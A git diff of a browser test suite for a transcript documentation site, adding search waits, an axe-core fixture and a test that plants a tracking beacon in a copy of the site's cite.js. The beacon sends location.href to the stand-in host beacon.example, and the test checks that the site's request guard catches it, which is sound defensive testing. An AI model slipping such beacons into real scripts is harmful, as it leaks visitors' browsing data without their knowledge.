@@ -7,7 +7,11 @@ failed request or a request that would leave 127.0.0.1 (see conftest.py).
 
 from __future__ import annotations
 
+import os
 import re
+import shutil
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -17,7 +21,6 @@ from tools import browser as harness
 
 HERE = Path(__file__).resolve().parent
 ROOT = HERE.parents[1]
-AXE = HERE / "node_modules" / "axe-core" / "axe.min.js"
 
 pytestmark = pytest.mark.browser
 
@@ -54,6 +57,11 @@ JS_UNCOVERED = """el => {
   const hit = document.elementFromPoint(x, y);
   return hit !== null && (hit === el || el.contains(hit));
 }"""
+
+
+SEARCH_SETTLED = (
+    "document.querySelector('.md-search-result__list').getAttribute('aria-busy') === 'false'"
+)
 
 
 def wait_for_search_index(page) -> None:
@@ -102,6 +110,8 @@ def test_search_finds_a_turn_and_lands_on_it(open_page):
     # the section that holds the phrase is the top hit of its page, so it is listed open
     found = page.locator(f'a.md-search-result__link[href*="{PRESS}/"][href*="#t-"]').first
     found.wait_for(state="visible", timeout=10_000)
+    # the dialog goes on asking earlier years until it has a screenful; a reader clicks once it has
+    page.wait_for_function(SEARCH_SETTLED, timeout=10_000)
     href = found.get_attribute("href")
     m = pattern.search(href)
     assert m, f"search result link {href!r} does not go to a turn of {PRESS}"
@@ -128,6 +138,8 @@ def test_search_opens_from_the_header_button_on_a_phone(open_page):
     query.press_sequentially("sabre rattling")  # Material searches on key events
     found = page.locator(f'a.md-search-result__link[href*="{PRESS}/"][href*="#t-"]').first
     found.wait_for(state="visible", timeout=10_000)
+    # the dialog goes on asking earlier years until it has a screenful; a reader clicks once it has
+    page.wait_for_function(SEARCH_SETTLED, timeout=10_000)
 
 
 # (b) turn permalinks ------------------------------------------------------------------------
@@ -225,6 +237,59 @@ def test_page_is_quiet_and_local(open_page, name):
     assert not traffic.problems(), "\n".join(traffic.problems())
 
 
+def test_a_beacon_added_to_a_script_is_caught(open_page, site_dir, tmp_path):
+    """What a pull request that makes docs/assets/cite.js phone home meets: the request check
+    every test here runs (open_page) names the request, and the request never leaves."""
+    copy = tmp_path / "site"
+    shutil.copytree(site_dir, copy)
+    cite = copy / "assets" / "cite.js"
+    cite.write_text(
+        cite.read_text(encoding="utf-8") + "\nnavigator.sendBeacon('https://beacon.example/b', "
+        "location.href);\nnew Image().src = 'https://beacon.example/i';\n",
+        encoding="utf-8",
+    )
+    with harness.serve(copy) as base:
+        page, traffic = open_page(TRANSCRIPT, base=base)
+        page.wait_for_load_state("networkidle")
+        page.close()
+    problems = traffic.problems()
+    assert "request leaving 127.0.0.1: https://beacon.example/b" in problems, problems
+    assert "request leaving 127.0.0.1: https://beacon.example/i" in problems, problems
+    traffic.remote.clear()  # found, as it had to be: the fixture's own check has nothing left to fail on
+    traffic.errors.clear()
+
+
+def test_without_axe_core_only_the_accessibility_tests_are_skipped(site_dir, tmp_path):
+    """axe-core missing skips the axe tests and nothing else: the request checks still run."""
+    test = HERE / "test_site.py"
+    env = {
+        **os.environ,
+        "ONRECORD_AXE": str(tmp_path / "no-axe.min.js"),
+        "ONRECORD_SITE_DIR": str(site_dir),
+    }
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "pytest",
+            "-q",
+            "-rs",
+            "-p",
+            "no:cacheprovider",
+            f"{test}::test_page_is_quiet_and_local[transcript]",
+            f"{test}::test_a_beacon_added_to_a_script_is_caught",
+            f"{test}::test_axe_finds_no_serious_violation[transcript-light]",
+        ],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    assert "2 passed, 1 skipped" in done.stdout, done.stdout[-3000:] + done.stderr[-2000:]
+    assert "axe-core is not installed" in done.stdout
+
+
 # (e) the small screen -----------------------------------------------------------------------
 
 
@@ -243,9 +308,9 @@ def test_no_horizontal_scroll_on_a_phone(open_page, name):
 # (f) axe-core -------------------------------------------------------------------------------
 
 
-def serious_violations(page, **options) -> str:
+def serious_violations(page, axe: Path, **options) -> str:
     """axe-core's serious and critical findings on the page as it is now, one per line."""
-    page.add_script_tag(path=str(AXE))
+    page.add_script_tag(path=str(axe))
     found = page.evaluate(
         """async options => {
       const r = await axe.run(document, {resultTypes: ['violations'], ...options});
@@ -263,17 +328,17 @@ def serious_violations(page, **options) -> str:
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 @pytest.mark.parametrize("name", READER_PAGES)
-def test_axe_finds_no_serious_violation(open_page, name, scheme):
+def test_axe_finds_no_serious_violation(open_page, axe, name, scheme):
     page, _ = open_page(READER_PAGES[name], color_scheme=scheme)
     # Material picks the palette whose media query matches the reader's preference
     expected = {"light": "default", "dark": "slate"}[scheme]
     assert page.locator("body").get_attribute("data-md-color-scheme") == expected
-    bad = serious_violations(page)
+    bad = serious_violations(page, axe)
     assert not bad, bad
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_axe_finds_no_serious_violation_in_open_search(open_page, scheme):
+def test_axe_finds_no_serious_violation_in_open_search(open_page, axe, scheme):
     page, _ = open_page(HOME, color_scheme=scheme)
     wait_for_search_index(page)
     page.get_by_role("textbox", name="Search").click()
@@ -283,11 +348,11 @@ def test_axe_finds_no_serious_violation_in_open_search(open_page, scheme):
     page.wait_for_function(RESULTS_SHOWN, timeout=10_000)
     assert page.locator(".md-search-result__item").count() >= 3
     assert page.locator(".or-search-names a", has_text="Jens Stoltenberg").count() == 1
-    bad = serious_violations(page)
+    bad = serious_violations(page, axe)
     assert not bad, bad
 
 
-def test_a_table_too_wide_for_the_screen_is_a_named_keyboard_region(open_page):
+def test_a_table_too_wide_for_the_screen_is_a_named_keyboard_region(open_page, axe):
     # At 260px even the phone layout's tables overflow: each scrolls inside its wrapper,
     # which the theme override makes a named region reachable and scrollable by keyboard.
     page, _ = open_page(SPEAKER, width=260, height=700, mobile=True)
@@ -309,7 +374,7 @@ def test_a_table_too_wide_for_the_screen_is_a_named_keyboard_region(open_page):
     wrap.focus()
     page.keyboard.press("ArrowRight")
     page.wait_for_function("w => w.scrollLeft > 0", arg=wrap.element_handle(), timeout=2_000)
-    bad = serious_violations(page, runOnly=["scrollable-region-focusable"])
+    bad = serious_violations(page, axe, runOnly=["scrollable-region-focusable"])
     assert not bad, bad
 
 
@@ -381,8 +446,13 @@ def test_keyboard_reaches_search_and_turn_permalinks(open_page):
     assert page.evaluate("document.activeElement.classList.contains('md-search__input')")
     assert page.locator("#__search").is_checked(), "the search dialog did not open"
     page.keyboard.type("sabre rattling", delay=10)
-    page.locator("a.md-search-result__link:visible").first.wait_for(timeout=10_000)
-    for _ in range(5):
+    page.locator(f'a.md-search-result__link[href*="{PRESS}/"]:visible').first.wait_for(
+        timeout=10_000
+    )
+    page.wait_for_function(
+        SEARCH_SETTLED, timeout=10_000
+    )  # speakers come first, documents as they arrive
+    for _ in range(8):
         page.keyboard.press("ArrowDown")
         href = page.evaluate("document.activeElement.getAttribute('href') || ''")
         if re.search(rf"{PRESS}/.*#t-\d{{3}}$", href):
